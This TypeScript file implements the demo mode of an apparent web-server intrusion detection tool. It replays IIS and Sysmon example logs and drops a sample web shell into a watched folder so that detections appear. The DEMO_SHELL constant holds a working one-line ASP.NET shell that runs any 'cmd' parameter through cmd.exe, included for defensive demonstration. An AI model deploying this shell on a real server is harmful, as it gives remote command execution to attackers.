/**
 * `warden serve --demo`: a temporary data folder and the bundled example logs replayed as a
 * live feed — an IIS log and Sysmon events of a web server, re-timed to now and written line
 * by line over some seconds — plus a watched web root into which the demo drops the web
 * shell those logs are about. A newcomer sees detections arrive, then one incident that joins
 * the upload, the new script, its scanner finding, the shell it spawned and the IIS module
 * the attacker installed.
 */
import { appendFileSync, mkdirSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs';
import { tmpdir } from 'node:os';
import { join } from 'node:path';
import { fileURLToPath } from 'node:url';
import { defaultConfig, type ServeConfig } from './config.js';

/** The package's examples folder (dist/src/server → ../../../examples). */
export function examplesDir(): string {
  return fileURLToPath(new URL('../../../examples/', import.meta.url));
}

/** What the demo drops into its web root: a one-line ASP.NET command shell, written by Warden for the demo. */
const DEMO_SHELL = `<%@ Page Language="C#" %><% var p = new System.Diagnostics.Process(); p.StartInfo.FileName = "cmd.exe"; p.StartInfo.Arguments = "/c " + Request["cmd"]; p.StartInfo.UseShellExecute = false; p.StartInfo.RedirectStandardOutput = true; p.Start(); Response.Write(p.StandardOutput.ReadToEnd()); %>\n`;

interface FeedLine {
  file: 'iis' | 'sysmon';
  time: number;
  render: (t: number) => string;
}

function w3cStamp(t: number): string {
  const iso = new Date(t).toISOString();
  return `${iso.slice(0, 10)} ${iso.slice(11, 19)}`;
}

function feedLines(dir: string): { header: string; lines: FeedLine[] } {
  const iis = readFileSync(join(dir, 'logs', 'u_ex260302.log'), 'utf8').split('\n');
  const header = iis.filter((l) => l.startsWith('#')).join('\n');
  const lines: FeedLine[] = [];
  for (const l of iis) {
    if (!l || l.startsWith('#')) continue;
    const t = Date.parse(`${l.slice(0, 10)}T${l.slice(11, 19)}Z`);
    const rest = l.slice(20);
    lines.push({ file: 'iis', time: t, render: (now) => `${w3cStamp(now)} ${rest}` });
  }
  for (const l of readFileSync(join(dir, 'logs', 'web01-sysmon.jsonl'), 'utf8').split('\n')) {
    if (!l.trim()) continue;
    const ev = JSON.parse(l) as { Event: { System: { TimeCreated: { '#attributes': { SystemTime: string } } }; EventData: Record<string, unknown> } };
    const t = Date.parse(ev.Event.System.TimeCreated['#attributes'].SystemTime);
    lines.push({
      file: 'sysmon',
      time: t,
      render: (now) => {
        const copy = structuredClone(ev);
        const iso = new Date(now).toISOString();
        copy.Event.System.TimeCreated['#attributes'].SystemTime = iso;
        if ('UtcTime' in copy.Event.EventData) copy.Event.EventData.UtcTime = iso.replace('T', ' ').replace('Z', '');
        return JSON.stringify(copy);
      },
    });
  }
  lines.sort((a, b) => a.time - b.time);
  return { header, lines };
}

export interface Demo {
  config: ServeConfig;
  root: string;
  /** Starts writing the feed (one line every `stepMs`); resolves when everything was written. */
  play(stepMs?: number): Promise<void>;
  stop(): void;
}

export function prepareDemo(): Demo {
  const root = mkdtempSync(join(tmpdir(), 'warden-demo-'));
  const feed = join(root, 'feed');
  const www = join(root, 'www', 'aspnet_client', 'system_web');
  mkdirSync(feed, { recursive: true });
  mkdirSync(www, { recursive: true });
  writeFileSync(join(root, 'www', 'default.aspx'), '<%@ Page Language="C#" %><html><body>Welcome</body></html>\n');
  const ex = examplesDir();
  const config = defaultConfig();
  config.file = '(demo)';
  config.data = join(root, 'data');
  config.rules.paths = [join(ex, 'rules')];
  config.pipeline.toleranceMs = 1000;
  config.pipeline.snapshotEveryMs = 2000;
  config.sources = [
    { type: 'tail', name: 'iis', paths: [join(feed, 'u_ex*.log')], format: 'w3c', host: 'WEB01', startAt: 'beginning' },
    { type: 'tail', name: 'sysmon', paths: [join(feed, 'sysmon*.jsonl')], startAt: 'beginning' },
    { type: 'webroot', name: 'www', paths: [join(root, 'www')], host: 'WEB01', rescanMs: 60_000 },
  ];
  const { header, lines } = feedLines(ex);
  let timer: NodeJS.Timeout | undefined;
  return {
    config,
    root,
    play(stepMs = 1200) {
      const day = new Date().toISOString().slice(2, 10).replace(/-/g, '');
      const iis = join(feed, `u_ex${day}.log`);
      const sysmon = join(feed, 'sysmon.jsonl');
      writeFileSync(iis, `${header.replace(/^#Date: .*$/m, `#Date: ${w3cStamp(Date.now())}`)}\n`);
      writeFileSync(sysmon, '');
      let i = 0;
      return new Promise((resolve) => {
        const step = (): void => {
          const l = lines[i];
          if (!l) {
            resolve();
            return;
          }
          const now = Date.now();
          if (l.file === 'iis') appendFileSync(iis, `${l.render(now)}\n`);
          else appendFileSync(sysmon, `${l.render(now)}\n`);
          // The shell lands in the web root when the logs say it was written (Sysmon event 11).
          if (l.file === 'sysmon' && l.render(now).includes('errorEE.aspx')) writeFileSync(join(www, 'errorEE.aspx'), DEMO_SHELL);
          i++;
          timer = setTimeout(step, stepMs);
        };
        timer = setTimeout(step, 500);
      });
    },
    stop() {
      if (timer) clearTimeout(timer);
    },
  };
}
